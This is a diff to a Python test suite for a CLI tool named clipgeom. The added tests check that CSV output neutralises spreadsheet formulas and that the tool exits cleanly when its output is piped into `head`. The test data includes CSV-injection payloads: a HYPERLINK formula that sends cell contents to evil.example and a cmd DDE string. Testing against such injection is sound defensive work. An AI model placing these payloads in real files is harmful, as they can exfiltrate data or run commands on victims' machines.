@@ -206,7 +206,10 @@ def test_stored_report_is_computed_once_and_shipped_reports_are_read(clipgeom_ho
     assets = tmp_path / "assets"
     assets.mkdir()
     monkeypatch.setattr(store, "ASSETS_DIR", assets)
-    shutil.move(str(ds.path), str(assets / "kept"))
+    user_folder = ds.path.parent          # datasets/<name>/
+    ds.close()
+    shutil.move(str(ds.path), str(assets / "kept"))   # its version, as bundled
+    shutil.rmtree(user_folder)
     bundled = store.open_dataset("kept")
     assert bundled.read_only
     assert report.stored_report(bundled, temperature=0.05, max_pairs=200) == first
@@ -228,3 +231,65 @@ def test_report_cli_defaults_to_the_models_own_temperature(clipgeom_home, capsys
     assert json.loads(capsys.readouterr().out)["temperature"] == 0.05
     assert main(["report", "tau", "--json", "--quiet", "--temperature", "0.02"]) == 0
     assert json.loads(capsys.readouterr().out)["temperature"] == 0.02
+
+
+# --------------------------------------------------------------------------
+# Issue 10: formulas in CSV output, `| head`
+# --------------------------------------------------------------------------
+
+HOSTILE_CAPTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+                    "@SUM(A1:A9)", "-2+3", "\tleading tab", "plain caption"]
+
+
+def test_conformity_csv_neutralises_formulas_but_not_negative_numbers(tmp_path, clipgeom_home,
+                                                                      capsys, rng):
+    import csv
+    import io
+
+    # Zero-mean Gaussian rows: mean cosines near 0, so some conformity values
+    # are negative numbers, which must stay numbers.
+    n = len(HOSTILE_CAPTIONS)
+    img, txt = rng.normal(size=(n, 8)), rng.normal(size=(n, 8))
+    np.save(tmp_path / "i.npy", img.astype(np.float32))
+    np.save(tmp_path / "t.npy", txt.astype(np.float32))
+    (tmp_path / "c.jsonl").write_text("".join(json.dumps({"caption": c}) + "\n"
+                                              for c in HOSTILE_CAPTIONS))
+    assert main(["import", "evil", "--image-emb", str(tmp_path / "i.npy"), "--text-emb",
+                 str(tmp_path / "t.npy"), "--captions", str(tmp_path / "c.jsonl")]) == 0
+    capsys.readouterr()
+    assert main(["conformity", "evil", "--modality", "text", "--csv"]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[0] == ["id", "exact", "estimated", "cos_to_mean", "caption"]
+    body = rows[1:]
+    assert [r[4] for r in body[:5]] == ["'" + c for c in HOSTILE_CAPTIONS[:5]]
+    assert body[5][4] == "plain caption"
+    exact = np.array([float(r[1]) for r in body])      # numbers parse as numbers
+    ref = brute_conformity(txt.astype(np.float32).astype(np.float64))
+    np.testing.assert_allclose(exact, ref, atol=1e-5)
+    assert (exact < 0).any()                           # the case that must not be quoted
+    assert all(not r[k].startswith("'") for r in body for k in (1, 2, 3))
+
+
+def test_conformity_piped_into_a_reader_that_stops_exits_quietly(tmp_path, clipgeom_home):
+    env = _env(clipgeom_home)
+    made = subprocess.run([sys.executable, "-m", "clipgeom", "synthetic", "pipe", "--n",
+                           "3000", "--dim", "16"], capture_output=True, text=True, env=env)
+    assert made.returncode == 0, made.stderr
+    # Like `| head -c 64`: read a few bytes, then close the pipe while the CLI
+    # still has ~150 KB of CSV to write.
+    proc = subprocess.Popen([sys.executable, "-m", "clipgeom", "conformity", "pipe", "--csv"],
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
+    head = proc.stdout.read(64)
+    proc.stdout.close()
+    err = proc.stderr.read().decode()
+    rc = proc.wait(timeout=120)
+    assert head.startswith(b"id,exact,estimated")
+    assert "Traceback" not in err and "BrokenPipeError" not in err, err
+    assert err.strip() == ""
+    assert rc == 141                                   # 128 + SIGPIPE, like a killed writer
+    # And through a real shell pipeline.
+    sh = subprocess.run(["bash", "-c", f"{sys.executable} -m clipgeom conformity pipe --csv "
+                                       "| head -n 2"], capture_output=True, text=True, env=env)
+    assert sh.stdout.splitlines()[0] == "id,exact,estimated,cos_to_mean,source"
+    assert len(sh.stdout.splitlines()) == 2
+    assert "Traceback" not in sh.stderr and sh.stderr.strip() == ""
